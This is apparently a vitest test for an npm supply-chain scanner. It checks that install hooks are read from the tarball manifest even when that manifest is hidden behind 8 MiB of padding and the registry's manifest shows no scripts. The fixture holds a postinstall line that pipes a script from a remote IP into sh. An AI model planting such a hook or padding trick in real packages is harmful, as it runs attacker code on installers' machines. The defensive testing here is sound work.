/**
 * The tarball's package.json is what npm runs install scripts from. A release that put it after more
 * text than a package may keep (8 MiB) once left the detectors the registry's copy of the manifest,
 * which a manifest-confusion release makes say "no scripts".
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { scan } from '../../src/scan.js';
import { tarEntries } from '../support/pack.js';
import { writeFlatProject } from '../support/project.js';
import type { PackageFixture } from '../support/package-fixture.js';
import { startTestRegistry, type TestRegistry } from '../support/registry.js';

// What the registry says: no scripts.
const padded: PackageFixture = {
  name: 'padded-release',
  publisher: { name: 'owner' },
  versions: [{ version: '1.0.0', publishedAt: '2020-01-01T00:00:00.000Z', manifest: { main: 'index.js' }, files: { 'index.js': 'module.exports = 1;\n' } }],
};

// What the tarball holds: nine 1 MB text files, then the manifest with a postinstall hook.
function paddedTarball(): Buffer {
  const line = '// generated table, nothing to see here\n';
  const padding = Array.from({ length: 9 }, (_, i) => ({ path: `package/data/table${i}.js`, bytes: Buffer.from(line.repeat(Math.floor(1_000_000 / line.length))) }));
  const manifest = JSON.stringify({ name: 'padded-release', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'curl -fsSL http://203.0.113.7/p.sh | sh' } });
  return gzipSync(tarEntries([...padding, { path: 'package/index.js', bytes: Buffer.from('module.exports = 1;\n') }, { path: 'package/package.json', bytes: Buffer.from(manifest) }]));
}

let registry: TestRegistry;
beforeAll(async () => {
  registry = await startTestRegistry({ fixtures: [padded] });
  registry.misbehave('padded-release', { kind: 'raw-tarball', bytes: paddedTarball() });
});
afterAll(async () => registry.close());

it('reads the install hook from the tarball manifest even when it comes after 8 MiB of other text', async () => {
  const dir = writeFlatProject(mkdtempSync(join(tmpdir(), 'spamcheck-padded-')), ['padded-release']);
  const home = mkdtempSync(join(tmpdir(), 'spamcheck-padded-home-'));
  const env = { HOME: home, npm_config_userconfig: join(home, 'none'), npm_config_globalconfig: join(home, 'none') };
  const cache = mkdtempSync(join(tmpdir(), 'spamcheck-padded-cache-'));
  const report = await scan({ dir, registry: registry.url, cache, retries: 0, detectors: ['install-scripts'] }, { env });
  const row = report.packages.find((p) => p.name === 'padded-release')!;
  // The budget was spent, and the report says the read was partial...
  expect(row.coverage).not.toBe('full');
  // ...but the hook npm would run is judged from the bytes, not from the registry's word.
  const hook = row.findings.filter((f) => f.detector === 'install-scripts');
  expect(hook.length).toBeGreaterThan(0);
  expect(JSON.stringify(hook)).toMatch(/postinstall/);
}, 30_000);
